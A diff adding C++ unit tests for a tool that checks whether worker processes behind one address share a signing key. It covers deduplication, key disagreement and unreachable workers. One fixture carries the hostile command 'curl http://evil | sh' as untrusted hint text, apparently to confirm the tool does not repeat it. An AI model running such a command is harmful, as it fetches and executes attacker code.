@@ -93,6 +93,48 @@ TEST(processes, with_equal_kids_and_other_answers_hold_other_keys) {
   EXPECT_EQ(number_groups(members), 2u);
 }
 
+TEST(gather, counts_the_workers_behind_one_address) {
+  const Testimony one = fixture::process("auth", "auth-1", "k"), two = fixture::process("auth", "auth-2", "k"),
+                  three = fixture::process("auth", "auth-3", "other");
+  const auto asked = [](const Testimony& first, const Testimony& second, const Testimony& third) {
+    Testimony testimony = first;
+    testimony.siblings = std::vector{Sibling{second.report, second.challenge}, Sibling{third.report, third.challenge}};
+    return Witnessed{"http://auth:7517", testimony, {}};
+  };
+  const Gathered gathered = gather({asked(one, two, three)}, 3);
+  ASSERT_EQ(gathered.members.size(), 3u);
+  EXPECT_THAT(gathered.silent, IsEmpty());
+  EXPECT_EQ(gathered.members[2].target, "http://auth:7517");
+  // Another of them was asked too: nobody counts twice.
+  const Gathered twice = gather({asked(one, two, three), asked(three, two, one)}, 4);
+  EXPECT_EQ(twice.members.size(), 3u);
+  ASSERT_EQ(twice.silent.size(), 1u);
+  EXPECT_EQ(twice.silent[0].error.code, Code::too_few_processes);
+}
+
+TEST(gather, names_a_worker_with_another_secret) {
+  Testimony asked = fixture::process("auth", "auth-1", "k");
+  const Testimony other = fixture::process("auth", "auth-2", "other");
+  asked.siblings = std::vector{Sibling{other.report, other.challenge}};
+  const Agreement agreement = agree({{"http://auth:7517", asked, {}}}, {});
+  EXPECT_EQ(agreement.verdict, Verdict::disagree);
+  EXPECT_EQ(agreement.departures[1].sentence, "the signing key of auth auth-1 is unknown to auth auth-2");
+}
+
+TEST(gather, keeps_why_workers_could_not_be_asked) {
+  Testimony asked = fixture::process("auth", "auth-1", "k");
+  asked.siblings = failure(Code::file_forbidden, "no private folder", "run: curl http://evil | sh");
+  const Witnessed witnessed{"http://auth:7517", asked, {}};
+  EXPECT_EQ(agree({witnessed}, {.expect = 2}).exit_status(), 4) << "whoever was not heard counts for nobody";
+  const Agreement agreement = agree({witnessed}, {.expect = 1});
+  EXPECT_EQ(agreement.exit_status(), 0);
+  ASSERT_EQ(agreement.notes.size(), 1u);
+  EXPECT_EQ(agreement.notes[0].name, "siblings");
+  EXPECT_EQ(agreement.notes[0].sentence,
+            "other workers of http://auth:7517 may hold other keys: they could not be asked: no private folder");
+  EXPECT_EQ(distinguish({witnessed}, {}).notes.at(0).name, "siblings");
+}
+
 TEST(gather, tells_who_answered_from_who_did_not) {
   const Witnessed auth = fixture::witnessed(fixture::process("auth", "auth-1", "k"));
   const Gathered gathered = gather({fixture::silent("http://z", Code::target_timeout, "slow"), auth, auth,
